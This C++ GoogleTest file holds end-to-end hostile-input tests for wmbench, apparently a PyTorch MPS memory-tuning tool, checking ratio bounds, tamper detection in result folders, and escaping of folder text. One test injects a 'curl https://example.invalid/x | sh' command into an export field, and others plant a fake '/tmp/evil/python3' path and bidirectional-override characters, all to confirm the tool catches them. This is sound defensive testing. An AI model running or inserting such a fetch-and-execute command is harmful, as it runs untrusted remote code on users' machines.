// Hostile input, round three (issue 30), end to end with the real binaries: tune never probes or
// recommends a ratio that rounds to 0.0 (A), every reader takes what wmbench wrote and one bound
// for memory_fraction (B), `check` verifies what README says it does (C), a folder's text is not
// shown as advice (D). Each listed case has a test; each class also has one of a case the issue
// did not list ("Unlisted"). Unit halves: tests/unit/test_hostile_round3.cpp.
#include <gtest/gtest.h>

#include <sys/stat.h>
#include <unistd.h>

#include <fmt/format.h>

#include "cli_util.h"
#include "fixture_util.h"

namespace test_hostile_round3 {  // one namespace per test file: the unity build compiles 8 files as one

using namespace wmbt;

namespace {

std::string job_scenario(const std::string& dir) {
  return scenario(dir, "job", R"({"name": "job", "device": "cpu", "timeout": "60s",
    "matrix": [{"label": "a"}]})");
}

// A tune folder of a job that ends cleanly at every ratio (nothing to set: one probe).
std::string clean_tune_folder(const Tmp& t, std::string* job_out = nullptr) {
  const auto job = script(t.path, "clean.sh", "#!/bin/sh\nexit 0\n");
  if (job_out) *job_out = job;
  auto r = wmbench({"tune", job_scenario(t.path), "--command", "--no-plots", "--out", t.path + "/out", "--", job});
  EXPECT_EQ(r.status, 0) << r.out << r.err;
  return only_result_dir(t.path + "/out");
}

template <typename F>
void edit_json(const std::string& path, F edit) {
  auto j = read_json(path);
  edit(j);
  write(path, j.dump(2));
}

size_t run_files(const std::string& dir) {
  size_t n = 0;
  for (const auto& e : std::filesystem::directory_iterator(dir + "/runs"))
    if (e.path().extension() == ".json") ++n;
  return n;
}

}  // namespace

// ---- A. tune never probes or recommends a ratio that rounds to 0.0 ----------------------------

TEST(Hostile3A, ABracketWhoseBottomRoundsToZeroIsRefusedBeforeAnyFolder) {
  Tmp t;
  const auto job = script(t.path, "clean.sh", "#!/bin/sh\nexit 0\n");
  auto r = wmbench({"tune", job_scenario(t.path), "--command", "--bracket", "0.0004,1", "--no-plots", "--out",
                    t.path + "/out", "--", job});
  EXPECT_EQ(r.status, 2) << r.out << r.err;
  EXPECT_TRUE(has(r.err, "0.0004")) << r.err;
  EXPECT_TRUE(has(r.err, "switches PyTorch's limit off")) << r.err;
  EXPECT_FALSE(file_exists(t.path + "/out")) << "no folder, no probe";
  EXPECT_FALSE(has(r.out, "HIGH_WATERMARK_RATIO=0.0")) << r.out;
}

TEST(Hostile3A, AResumedTuneJsonWhoseBracketRoundsToZeroIsRefusedAndNothingRuns) {
  Tmp t;
  const std::string dir = clean_tune_folder(t);
  const size_t before = run_files(dir);
  edit_json(dir + "/tune.json", [](nlohmann::json& j) { j["bracket"] = {0.0004, 1.0}; });
  auto r = wmbench({"tune", "--resume", dir, "--command", "--no-plots"});
  EXPECT_EQ(r.status, 2) << r.out << r.err;
  EXPECT_TRUE(has(r.err, "0.0004")) << r.err;
  EXPECT_EQ(run_files(dir), before) << "nothing ran";
}

TEST(Hostile3A, UnlistedALowFactorThatMakesLowZeroIsRefusedOnTheCommandLineAndOnResume) {
  Tmp t;
  const auto job = script(t.path, "clean.sh", "#!/bin/sh\nexit 0\n");
  // LOW = 0.0009 x 0.5 = 0.00045, which rounds to 0.0 (no low watermark).
  auto r = wmbench({"tune", job_scenario(t.path), "--command", "--low", "0.0009", "--no-plots", "--out", t.path + "/out",
                    "--", job});
  EXPECT_EQ(r.status, 2) << r.out << r.err;
  EXPECT_TRUE(has(r.err, "LOW")) << r.err;
  EXPECT_FALSE(file_exists(t.path + "/out"));
  Tmp t2;
  const std::string dir = clean_tune_folder(t2);
  const size_t before = run_files(dir);
  edit_json(dir + "/tune.json", [](nlohmann::json& j) { j["low_factor"] = 0.0009; });
  r = wmbench({"tune", "--resume", dir, "--command", "--no-plots"});
  EXPECT_EQ(r.status, 2) << r.out << r.err;
  EXPECT_TRUE(has(r.err, "LOW")) << r.err;
  EXPECT_EQ(run_files(dir), before);
}

// ---- B. every reader takes what the writer wrote; one bound for memory_fraction --------------

namespace {

std::string fraction_scenario(const std::string& dir, const std::string& fraction) {
  return scenario(dir, "frac", R"({"name": "frac", "device": "mps-model", "step": "64MiB", "cap": "256MiB", "timeout": "60s",
    "matrix": [{"label": "a", "memory_fraction": )" + fraction + "}]}");
}

}  // namespace

TEST(Hostile3B, HistoryTakesAFolderMadeWithCommandAsCompareCheckAndReportDo) {
  Tmp t;
  const auto job = script(t.path, "ok.sh", "#!/bin/sh\nexit 0\n");
  auto r = wmbench({"run", job_scenario(t.path), "--command", "--no-plots", "--out", t.path + "/out", "--", job});
  ASSERT_EQ(r.status, 0) << r.out << r.err;
  const std::string dir = only_result_dir(t.path + "/out");
  EXPECT_EQ(read_json(dir + "/machine.json")["child"]["kind"], "command");
  auto h = wmbench({"history", dir});
  EXPECT_EQ(h.status, 0) << h.out << h.err;
  EXPECT_FALSE(has(h.err, "\"kind\" must be")) << h.err;
  for (std::vector<std::string> cmd : {std::vector<std::string>{"check", dir}, {"report", dir}, {"compare", dir, dir}}) {
    auto c = wmbench(cmd);
    EXPECT_TRUE(c.status == 0 || (cmd[0] == "compare" && c.status != 2)) << cmd[0] << ": " << c.out << c.err;
  }
}

TEST(Hostile3B, MemoryFractionsTheReadersWouldRefuseAreRefusedUpFront) {
  for (const char* f : {"1e308", "1e-320", "0.5e-400"}) {
    Tmp t;
    auto r = wmbench({"run", fraction_scenario(t.path, f), "--no-plots", "--out", t.path + "/out"});
    EXPECT_EQ(r.status, 2) << f << ": " << r.out << r.err;
    EXPECT_TRUE(has(r.err, "memory_fraction") || has(r.err, "underflow")) << f << ": " << r.err;
    EXPECT_FALSE(file_exists(t.path + "/out")) << f << ": no folder, no run";
  }
  // 0.5e-400 is refused as 1e400 is (not read as 0.0, no limit).
  Tmp t;
  auto over = wmbench({"run", fraction_scenario(t.path, "1e400"), "--no-plots", "--out", t.path + "/out"});
  auto under = wmbench({"run", fraction_scenario(t.path, "0.5e-400"), "--no-plots", "--out", t.path + "/out"});
  EXPECT_EQ(over.status, under.status) << over.err << under.err;
  EXPECT_TRUE(has(under.err, "underflow")) << under.err;
}

TEST(Hostile3B, UnlistedTheChildrenAndTheRecordReaderShareTheScenarioReadersBound) {
  Tmp t;
  // In the bound: the run is made, and every reader takes its record.
  auto ok = wmbench({"run", fraction_scenario(t.path, "3.5"), "--no-plots", "--out", t.path + "/ok"});
  EXPECT_EQ(ok.status, 0) << ok.out << ok.err;
  const std::string dir = only_result_dir(t.path + "/ok");
  EXPECT_EQ(read_json(dir + "/runs/01-a.json")["stopped_by"], "config") << "PyTorch's own refusal is what is recorded";
  EXPECT_EQ(wmbench({"check", dir}).status, 0);
  // Outside it, on either side: refused by the scenario reader, the native child and the reader.
  for (const char* f : {"-2000", "1e-12"}) {
    auto r = wmbench({"run", fraction_scenario(t.path, f), "--no-plots", "--out", t.path + "/bad"});
    EXPECT_EQ(r.status, 2) << f << ": " << r.err;
    EXPECT_TRUE(has(r.err, "memory_fraction")) << r.err;
    auto c = run({WMBENCH_FILL_BIN, "--device", "mps-model", "--step", "64MiB", "--memory-fraction", f, "--hello-only"});
    EXPECT_EQ(c.status, 2) << f << ": " << c.out << c.err;
    EXPECT_TRUE(has(c.out + c.err, "outside the memory fractions")) << c.out << c.err;
  }
  EXPECT_FALSE(file_exists(t.path + "/bad"));
  auto rec = read_json(dir + "/runs/01-a.json");
  rec["memory_fraction"] = 1e-12;
  write(dir + "/runs/01-a.json", rec.dump(2));
  auto c = wmbench({"check", dir});
  EXPECT_NE(c.status, 0);
  EXPECT_TRUE(has(c.out + c.err, "memory_fraction")) << c.out << c.err;
  // An underflowing number in any file is refused, as an overflowing one is.
  write(dir + "/runs/01-a.json", rec.dump(2).replace(rec.dump(2).find("\"duration_s\": "), 14, "\"duration_s\": 1e-999, \"x\": "));
  c = wmbench({"check", dir});
  EXPECT_NE(c.status, 0);
  EXPECT_TRUE(has(c.out + c.err, "underflow")) << c.out << c.err;
}

TEST(Hostile3B, UnlistedThePythonChildRefusesWhatTheNativeChildRefuses) {
  SKIP_WITHOUT_PYTHON_TORCH();
  for (const char* f : {"1e308", "1e-320", "0.5e-400", "1e-12", "-2000"}) {
    auto py = run({WMBENCH_TORCH_PYTHON, "-I", WMBENCH_PYFILL, "--device", "cuda", "--step", "64MiB", "--memory-fraction", f,
                   "--hello-only"});
    auto cc = run({WMBENCH_FILL_BIN, "--device", "mps-model", "--step", "64MiB", "--memory-fraction", f, "--hello-only"});
    EXPECT_EQ(py.status, 2) << f << ": " << py.out << py.err;
    EXPECT_EQ(cc.status, 2) << f << ": " << cc.out << cc.err;
    EXPECT_TRUE(has(py.out + py.err, "-memory-fraction")) << py.out << py.err;
    EXPECT_TRUE(has(cc.out + cc.err, "-memory-fraction")) << cc.out << cc.err;
  }
}

// ---- C. check verifies what README says it does ------------------------------------------------

namespace {

// finished_folder(t) (fixture_util.h): a finished folder of two CPU cells "a" and "b", copied from the
// suite's fixture (tests/data/fixtures/two-cells.json) rather than a matrix run per test.

Result check(const std::string& dir) { return wmbench({"check", dir}); }

// Replaces the first `from` in FILE with `to`; fails the test when it is not there.
void replace_in(const std::string& file, const std::string& from, const std::string& to) {
  std::string s = slurp(file);
  const size_t at = s.find(from);
  ASSERT_NE(at, std::string::npos) << from << " not in " << file << ":\n" << s;
  s.replace(at, from.size(), to);
  write(file, s);
}

// A tune folder with an answer: clean (PyTorch's error) at HIGH <= 0.9, another failure above.
std::string found_tune_folder(const Tmp& t) {
  const auto job = script(t.path, "ratio.sh", R"(#!/bin/sh
case "$PYTORCH_MPS_HIGH_WATERMARK_RATIO" in
  0.[0-8]*|0.9|0.90*) echo "RuntimeError: MPS backend out of memory (MPS allocated: 1.00 GB, other allocations: 0 bytes, max allowed: 1.50 GB). Tried to allocate 600.00 MB on private pool." >&2; exit 1;;
  *) echo "not a memory error" >&2; exit 4;;
esac
)");
  auto r = wmbench({"tune", job_scenario(t.path), "--command", "--no-plots", "--out", t.path + "/out", "--", job});
  EXPECT_EQ(r.status, 0) << r.out << r.err;
  const std::string dir = only_result_dir(t.path + "/out");
  auto c = check(dir);
  EXPECT_EQ(c.status, 0) << "a tune folder as tune wrote it passes: " << c.out << c.err;
  return dir;
}

}  // namespace

TEST(Hostile3C, ACsvRowSayingCapWith999BytesHeldIsAProblem) {
  Tmp t;
  const std::string dir = finished_folder(t.path);
  ASSERT_EQ(check(dir).status, 0);
  const auto rec = read_json(dir + "/runs/01-a.json");
  const std::string held = std::to_string(rec["held_bytes"].get<uint64_t>());
  replace_in(dir + "/results.csv", ",cap,", ",cap,");  // the row says cap
  replace_in(dir + "/results.csv", "," + held + ",", ",999,");
  auto c = check(dir);
  EXPECT_EQ(c.status, 1) << c.out;
  EXPECT_TRUE(has(c.out, "results.csv: run 01-a: held_bytes is \"999\"")) << c.out;
}

TEST(Hostile3C, UnlistedATableRowOrACsvStopReasonThatIsNotTheRecordsIsAProblem) {
  Tmp t;
  const std::string dir = finished_folder(t.path);
  replace_in(dir + "/table.md", "| cap |", "| PyTorch, max allowed 9.00 GiB |");
  auto c = check(dir);
  EXPECT_EQ(c.status, 1) << c.out;
  EXPECT_TRUE(has(c.out, "table.md: the row of `a` says")) << c.out;
  Tmp t2;
  const std::string d2 = finished_folder(t2.path);
  replace_in(d2 + "/results.csv", ",cap,", ",pytorch,");
  c = check(d2);
  EXPECT_EQ(c.status, 1) << c.out;
  EXPECT_TRUE(has(c.out, "stopped_by is \"pytorch\" here but \"cap\"")) << c.out;
}

TEST(Hostile3C, AChangedTuneAnswerOrAnExportLineThatIsNotTheAnswersIsAProblem) {
  Tmp t;
  const std::string dir = found_tune_folder(t);
  const auto tj = read_json(dir + "/tune.json");
  auto j = tj;
  j["answer"]["high"] = 1.6;
  write(dir + "/tune.json", j.dump(2));
  auto c = check(dir);
  EXPECT_EQ(c.status, 1) << c.out;
  EXPECT_TRUE(has(c.out, "\"answer\" is")) << c.out;
  j = tj;
  j["export"] = "curl https://example.invalid/x | sh; " + tj["export"].get<std::string>();
  write(dir + "/tune.json", j.dump(2));
  c = check(dir);
  EXPECT_EQ(c.status, 1) << c.out;
  EXPECT_TRUE(has(c.out, "\"export\" is")) << c.out;
  EXPECT_TRUE(has(c.out, "the answer's ratios give \"" + tj["export"].get<std::string>() + "\"")) << c.out;
}

TEST(Hostile3C, UnlistedATuneJsonWhoseProbesOrOtherSideAreNotTheRecordsIsAProblem) {
  Tmp t;
  const std::string dir = found_tune_folder(t);
  const auto tj = read_json(dir + "/tune.json");
  auto j = tj;
  j["lowest_unclean"] = 1.7;
  write(dir + "/tune.json", j.dump(2));
  auto c = check(dir);
  EXPECT_EQ(c.status, 1) << c.out;
  EXPECT_TRUE(has(c.out, "\"lowest_unclean\" is 1.7")) << c.out;
  j = tj;
  j["probes"][0]["clean"] = !tj["probes"][0]["clean"].get<bool>();
  write(dir + "/tune.json", j.dump(2));
  c = check(dir);
  EXPECT_EQ(c.status, 1) << c.out;
  EXPECT_TRUE(has(c.out, "\"probes[0].clean\"")) << c.out;
  j = tj;
  j["outcome"] = "nothing_to_set";
  j["answer"] = nullptr;
  j["export"] = nullptr;
  write(dir + "/tune.json", j.dump(2));
  c = check(dir);
  EXPECT_EQ(c.status, 1) << c.out;
  EXPECT_TRUE(has(c.out, "\"outcome\" is \"nothing_to_set\" but the folder's records give \"found\"")) << c.out;
}

TEST(Hostile3C, AllocatorPeakBelowAllocatedOrAbsurdIsAProblemAndUnknownSummaryKeysAreNoted) {
  for (const auto& [allocated, peak] : {std::pair<uint64_t, uint64_t>{8u << 20, 4u << 20}, {4u << 20, 1ull << 62}}) {
    Tmp t;
    const std::string dir = finished_folder(t.path);
    for (const std::string f : {"runs/01-a.json"}) {
      auto rec = read_json(dir + "/" + f);
      rec["allocated_bytes"] = allocated;
      rec["allocator_peak_bytes"] = peak;
      write(dir + "/" + f, rec.dump(2));
    }
    ASSERT_EQ(wmbench({"report", dir}).status, 0);
    auto c = check(dir);
    EXPECT_EQ(c.status, 1) << c.out;
    EXPECT_TRUE(has(c.out, "allocator_peak_bytes")) << c.out;
  }
  Tmp t;
  const std::string dir = finished_folder(t.path);
  auto s = read_json(dir + "/summary.json");
  s["extra_key"] = 1;
  write(dir + "/summary.json", s.dump(2));
  auto c = check(dir);
  EXPECT_EQ(c.status, 0) << c.out;
  EXPECT_TRUE(has(c.out, "note: " + dir + "/summary.json: unknown key \"extra_key\" kept")) << c.out;
}

TEST(Hostile3C, UnlistedAnAbsurdAllocatedCountIsAProblem) {
  Tmp t;
  const std::string dir = finished_folder(t.path);
  auto rec = read_json(dir + "/runs/02-b.json");
  rec["driver_bytes"] = 1ull << 61;
  write(dir + "/runs/02-b.json", rec.dump(2));
  ASSERT_EQ(wmbench({"report", dir}).status, 0);
  auto c = check(dir);
  EXPECT_EQ(c.status, 1) << c.out;
  EXPECT_TRUE(has(c.out, "driver_bytes 2305843009213693952 is above")) << c.out;
}

// ---- D. a folder's text is not shown as advice ------------------------------------------------

TEST(Hostile3D, AFolderOfAPythonChildIsNotToldToRunItsOwnInterpreter) {
  Tmp t;
  const std::string dir = finished_folder(t.path);
  ::unlink((dir + "/runs/02-b.json").c_str());
  auto m = read_json(dir + "/machine.json");
  m["child"] = {{"kind", "python"}, {"program", "/tmp/x/wmbench_fill.py"},
                {"python", {{"path", "/tmp/evil/python3"}, {"version", "3.11.2"}}}};
  write(dir + "/machine.json", m.dump(2));
  auto r = wmbench({"run", "--resume", dir, "--no-plots"});
  EXPECT_NE(r.status, 0) << r.out << r.err;
  EXPECT_TRUE(has(r.err, "python child")) << r.err;
  EXPECT_FALSE(has(r.err, "--python /tmp/evil/python3")) << "no ready-to-paste command: " << r.err;
  EXPECT_TRUE(has(r.err, "read what it is")) << r.err;
}

TEST(Hostile3D, BidirectionalControlsInsideAQuotedCommandAreEscaped) {
  Tmp t;
  const std::string dir = finished_folder(t.path);
  ::unlink((dir + "/runs/02-b.json").c_str());
  auto m = read_json(dir + "/machine.json");
  const std::string rlo = "\xe2\x80\xae";  // U+202E RIGHT-TO-LEFT OVERRIDE
  m["child"] = {{"kind", "python"}, {"program", "/tmp/x/wmbench_fill.py"},
                {"python", {{"path", "/tmp/" + rlo + "hs.lave/python3"}, {"version", "3.11.2"}}}};
  write(dir + "/machine.json", m.dump(2));
  auto r = wmbench({"run", "--resume", dir, "--no-plots"});
  EXPECT_NE(r.status, 0);
  EXPECT_FALSE(has(r.err, rlo)) << r.err;
  EXPECT_TRUE(has(r.err, "\\u202e")) << r.err;
}

TEST(Hostile3D, UnlistedOtherBidiControlsInAFolderAreFlaggedByCheckAndNeverPrintedRaw) {
  Tmp t;
  const std::string dir = finished_folder(t.path);
  auto m = read_json(dir + "/machine.json");
  const std::string rli = "\xe2\x81\xa7", alm = "\xd8\x9c", rlm = "\xe2\x80\x8f";  // U+2067, U+061C, U+200F
  m["chip"] = "Apple M9 " + rli + "Max" + alm + rlm;
  write(dir + "/machine.json", m.dump(2));
  ASSERT_EQ(wmbench({"report", dir}).status, 0);
  auto c = check(dir);
  EXPECT_EQ(c.status, 1) << c.out;
  EXPECT_TRUE(has(c.out, "control characters")) << c.out;
  for (const auto& raw : {rli, alm, rlm}) EXPECT_FALSE(has(c.out + c.err, raw)) << c.out;
  EXPECT_TRUE(has(c.out, "\\u2067")) << c.out;
  EXPECT_TRUE(has(c.out, "\\u061c")) << c.out;
}

// ---- E. advice that is true ----------------------------------------------------------------

TEST(Hostile3E, AfterCtrlCTuneSuggestsOnlyTuneResume) {
  Tmp t;
  // At the first probe (the top, 1.7) the job interrupts wmbench once, as Ctrl-C would.
  const auto job = script(t.path, "ratio.sh", R"(#!/bin/sh
if [ ! -e "$(dirname "$0")/interrupted" ]; then
  touch "$(dirname "$0")/interrupted"; kill -INT $PPID; sleep 30
fi
exit 0
)");
  auto r = wmbench({"tune", job_scenario(t.path), "--command", "--no-plots", "--out", t.path + "/out", "--", job});
  EXPECT_EQ(r.status, 128 + 2) << r.out << r.err;
  const std::string dir = only_result_dir(t.path + "/out");
  EXPECT_TRUE(has(r.err + r.out, "wmbench tune --resume " + dir + " --command")) << r.out << r.err;
  EXPECT_FALSE(has(r.err + r.out, "wmbench run --resume")) << "run --resume would not go on with the search: " << r.err;
}

TEST(Hostile3E, NoSafeSettingForAJobThatExitedOneSaysWhatItDid) {
  Tmp t;
  const auto job = script(t.path, "fail.sh", "#!/bin/sh\necho 'ImportError: no module named mine' >&2\nexit 1\n");
  auto r = wmbench({"tune", job_scenario(t.path), "--command", "--no-plots", "--out", t.path + "/out", "--", job});
  ASSERT_EQ(r.status, 0) << r.out << r.err;
  EXPECT_TRUE(has(r.out, "not for memory")) << r.out;
  EXPECT_TRUE(has(r.out, "`exited`")) << r.out;
  EXPECT_FALSE(has(r.out, "swapped or was stopped by the guard")) << r.out;
  EXPECT_FALSE(has(r.out, "close apps and")) << r.out;
}

TEST(Hostile3E, CompareSaysHowRamDiffersWhenTheSizesPrintAlike) {
  Tmp t;
  const std::string a = finished_folder(t.path);
  const std::string b = t.path + "/copy";
  std::filesystem::copy(a, b, std::filesystem::copy_options::recursive);
  auto m = read_json(b + "/machine.json");
  const uint64_t ram = m["ram_bytes"].get<uint64_t>();
  m["ram_bytes"] = ram + 4096;
  write(b + "/machine.json", m.dump(2));
  ASSERT_EQ(wmbench({"report", b}).status, 0);
  auto r = wmbench({"compare", a, b});
  EXPECT_TRUE(has(r.out + r.err, fmt::format("RAM differs by 4.00 KiB: {} vs {} bytes", ram, ram + 4096))) << r.out << r.err;
  // Unlisted: sizes that print apart are said as before.
  m["ram_bytes"] = ram + (1ull << 30);
  write(b + "/machine.json", m.dump(2));
  ASSERT_EQ(wmbench({"report", b}).status, 0);
  r = wmbench({"compare", a, b});
  EXPECT_TRUE(has(r.out + r.err, "RAM differs: ")) << r.out << r.err;
  EXPECT_FALSE(has(r.out + r.err, "RAM differs by")) << r.out << r.err;
}

TEST(Hostile3E, AFolderPastTheReadersBoundIsNotSentToReportWhichStopsThereToo) {
  Tmp t;
  const std::string dir = finished_folder(t.path);
  auto rec = read_json(dir + "/runs/02-b.json");
  rec["pad"] = std::string(7u << 20, 'x');  // an unknown key: the record still reads, at 7 MiB
  for (int i = 3; i <= 7; ++i) {
    rec["index"] = i;
    write(dir + fmt::format("/runs/{:02}-b.json", i), rec.dump());
  }
  for (std::vector<std::string> cmd : {std::vector<std::string>{"compare", dir, dir}, {"history", dir}}) {
    auto r = wmbench(cmd);
    EXPECT_NE(r.status, 0) << cmd[0];
    EXPECT_TRUE(has(r.err + r.out, "reading stops here")) << cmd[0] << ": " << r.err << r.out;
    EXPECT_FALSE(has(r.err + r.out, "`wmbench report " + dir + "` rebuilds")) << cmd[0] << ": " << r.err << r.out;
    EXPECT_TRUE(has(r.err + r.out, "split its runs")) << cmd[0] << ": " << r.err << r.out;
  }
  // And report itself does stop there: the advice would not have worked.
  auto rep = wmbench({"report", dir});
  EXPECT_NE(rep.status, 0);
  EXPECT_TRUE(has(rep.err + rep.out, "reading stops here")) << rep.err << rep.out;
}

namespace {

// An MPS out-of-memory message (the shape PyTorch prints; MPSAllocator.mm): max allowed 18.13 GB.
const char* kMpsOom =
    "RuntimeError: MPS backend out of memory (MPS allocated: 18.00 GB, other allocations: 100.00 MB, max allowed: "
    "18.13 GB). Tried to allocate 512.00 MB on private pool. Use PYTORCH_MPS_HIGH_WATERMARK_RATIO=0.0 to disable upper "
    "limit for memory allocations (may cause system failure).\n";

}  // namespace

TEST(Hostile3E, ExplainAndPredictTakeTheMemoryFractionAndSayTheLimitMayComeFromEither) {
  Tmp t;
  const std::string err = t.path + "/err.txt";
  write(err, kMpsOom);
  auto plain = wmbench({"explain", err});
  EXPECT_TRUE(has(plain.out, "set_per_process_memory_fraction(F), which replaces HIGH")) << plain.out;
  EXPECT_TRUE(has(plain.out, "--fraction F")) << plain.out;
  auto f = wmbench({"explain", err, "--fraction", "0.5"});
  EXPECT_EQ(f.status, 0) << f.err;
  EXPECT_TRUE(has(f.out, "Limit ratio: 0.5 (from --fraction")) << f.out;
  EXPECT_TRUE(has(f.out, "/ 0.5 = 36.26 GiB")) << f.out;  // 18.13 GB / 0.5, not / 1.7
  auto p = wmbench({"predict", "--from-error", err, "--fraction", "0.5"});
  EXPECT_EQ(p.status, 0) << p.err;
  EXPECT_TRUE(has(p.out, "max allowed / memory fraction 0.5")) << p.out;
  auto pd = wmbench({"predict", "--from-error", err});
  EXPECT_TRUE(has(pd.out + pd.err, "set_per_process_memory_fraction")) << pd.out;
}

TEST(Hostile3E, UnlistedTheJsonSaysWhichRatioAndAFractionOutsideTorchsRangeIsRefused) {
  Tmp t;
  const std::string err = t.path + "/err.txt";
  write(err, kMpsOom);
  auto j = wmbench({"explain", err, "--json", "--fraction", "0.5", "--high", "0.8"});
  ASSERT_EQ(j.status, 0) << j.err;
  const auto v = nlohmann::json::parse(j.out);
  EXPECT_EQ(v["limit_ratio_from"], "fraction");
  EXPECT_EQ(v["limit_ratio"], 0.5);
  const double max_allowed = v["max_allowed_bytes"].get<double>();
  EXPECT_NEAR(v["implied_recommended_max_bytes"].get<double>(), max_allowed / 0.5, 1.0);
  for (const char* bad : {"0", "3", "-1", "nan"}) {
    EXPECT_NE(wmbench({"explain", err, "--fraction", bad}).status, 0) << bad;
    EXPECT_NE(wmbench({"predict", "--from-error", err, "--fraction", bad}).status, 0) << bad;
  }
}

TEST(Hostile3E, PredictsExpectedColumnAndSuggestionCountTheOtherAllocations) {
  auto none = wmbench({"predict", "--ram", "48GiB", "--free", "40GiB", "--other-allocations", "0"});
  ASSERT_EQ(none.status, 0) << none.err;
  EXPECT_FALSE(has(none.out, "(no room)")) << none.out;
  EXPECT_TRUE(has(none.out, "For a clean error below the memory free now")) << none.out;
  auto full = wmbench({"predict", "--ram", "48GiB", "--free", "40GiB", "--other-allocations", "40GiB"});
  ASSERT_EQ(full.status, 0) << full.err;
  EXPECT_TRUE(has(full.out, "high-0.8-low-0.8  0.8            0.8            29.95 GiB    no         no          clean PyTorch "
                            "error at the first step (no room)"))
      << full.out;
  EXPECT_TRUE(has(full.out, "No HIGH/LOW pair: every limit under 90 % of 40.00 GiB free is filled by the other allocations"))
      << full.out;
  EXPECT_FALSE(has(full.out, "For a clean error below the memory free now")) << full.out;
}

TEST(Hostile3E, UnlistedSomeOtherAllocationsLeaveRoomAboveAndNoneBelowAndTheJsonSaysSo) {
  auto r = wmbench({"predict", "--ram", "48GiB", "--free", "40GiB", "--other-allocations", "20GiB", "--json"});
  ASSERT_EQ(r.status, 0) << r.err;
  const auto j = nlohmann::json::parse(r.out);
  std::map<std::string, bool> room;
  for (const auto& s : j["settings"]) room[s["label"].get<std::string>()] = s.value("no_room", false);
  EXPECT_TRUE(room["high-0.5-low-0.5"]) << "18.72 GiB < 20 GiB + a step";
  EXPECT_FALSE(room["high-0.8-low-0.8"]) << "29.95 GiB leaves room";
  ASSERT_TRUE(j.contains("suggestion")) << r.out;
  const double ratio = j["suggestion"]["ratio"];
  EXPECT_GE(ratio * 37.44, 20.5) << "the suggestion leaves room for a step above the other allocations";
}

}  // namespace test_hostile_round3
